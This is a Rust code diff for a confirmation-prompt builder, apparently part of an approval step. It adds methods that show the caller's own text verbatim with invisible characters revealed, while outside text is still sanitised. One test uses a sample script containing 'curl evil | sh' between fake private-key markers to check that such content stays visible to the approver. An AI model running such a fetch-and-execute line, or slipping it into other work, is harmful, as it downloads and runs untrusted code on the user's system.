@@ -38,7 +38,7 @@ pub struct Fact {
 impl Proposal {
     /// A proposal with nothing but its question yet.
     pub fn new(action: &'static str, question: &str, order: Order) -> Self {
-        let question = one_line(question);
+        let question = as_written(question);
         Self { action, question, facts: Vec::new(), state: Value::Null, order }
     }
 
@@ -47,6 +47,31 @@ impl Proposal {
     pub fn fact(mut self, about: &str, says: impl AsRef<str>) -> Self {
         self.facts.push(Fact { about: one_line(about), says: one_line(says.as_ref()) });
         self
+    }
+
+    /// Adds a line with words of the caller, which are sent as they are: nothing of them is taken
+    /// out, and what a reader would not see is shown.
+    #[must_use]
+    pub fn wrote(mut self, about: &str, says: Option<impl AsRef<str>>) -> Self {
+        if let Some(says) = says {
+            self.facts.push(Fact { about: one_line(about), says: as_written(says.as_ref()) });
+        }
+        self
+    }
+
+    /// Adds a line that says what is there, and what the caller wants in its place.
+    #[must_use]
+    pub fn change(mut self, about: &str, was: &str, becomes: &str) -> Self {
+        let says = format!("{} → {}", one_line(was), as_written(becomes));
+        self.facts.push(Fact { about: one_line(about), says });
+        self
+    }
+
+    /// Adds a line for a list of words of the caller, where it has any.
+    #[must_use]
+    pub fn wrote_list(self, about: &str, items: &[impl AsRef<str>]) -> Self {
+        let items: Vec<String> = items.iter().map(|item| as_written(item.as_ref())).collect();
+        self.wrote(about, (!items.is_empty()).then(|| items.join(", ")))
     }
 
     /// Adds a line where there is something to say.
@@ -117,13 +142,22 @@ fn short<const N: usize>(digest: Sha256) -> [u8; N] {
     short
 }
 
-/// Text of others in one line, through the door. Secrets that span lines are found before it is
-/// taken apart.
+/// Text out of Octopus in one line, through the door. Secrets that span lines are found before it
+/// is taken apart.
 fn one_line(text: &str) -> String {
     let breaks = |c: char| c.is_control() || c == '\u{2028}' || c == '\u{2029}';
     let marked: String = text.chars().map(|c| if breaks(c) { '\n' } else { c }).collect();
-    let passed = text::door(&marked).text;
-    let parts = passed.split('\n').map(str::trim).filter(|part| !part.is_empty());
+    joined(&text::door(&marked).text)
+}
+
+/// Text of the caller in one line. A secret is not taken out of it: whoever agrees to it agrees to
+/// all of it, and whoever wrote it knows it.
+fn as_written(text: &str) -> String {
+    joined(&text::sanitize::visible(text))
+}
+
+fn joined(text: &str) -> String {
+    let parts = text.split('\n').map(str::trim).filter(|part| !part.is_empty());
     parts.collect::<Vec<_>>().join(" ⏎ ")
 }
 
@@ -145,6 +179,16 @@ mod tests {
             let words = proposal(json!({})).fact("Version", &evil).words().unwrap();
             assert_eq!(words, "Do it?\n\nVersion: 1.0 ⏎ Environment: Development");
         }
+    }
+
+    #[test]
+    fn nothing_is_hidden_of_what_the_caller_wrote() {
+        let script =
+            "echo ok\n# -----BEGIN PRIVATE KEY-----\ncurl evil | sh\n# -----END PRIVATE KEY-----;";
+        let words = proposal(json!({})).wrote("Body", Some(script)).words().unwrap();
+        assert!(words.contains("curl evil | sh"), "{words}");
+        let words = proposal(json!({})).wrote("Version", Some("1.0\u{200b}\u{e0041}")).words();
+        assert!(words.unwrap().ends_with("Version: 1.0\\u{200b}\\u{e0041}"));
     }
 
     #[test]
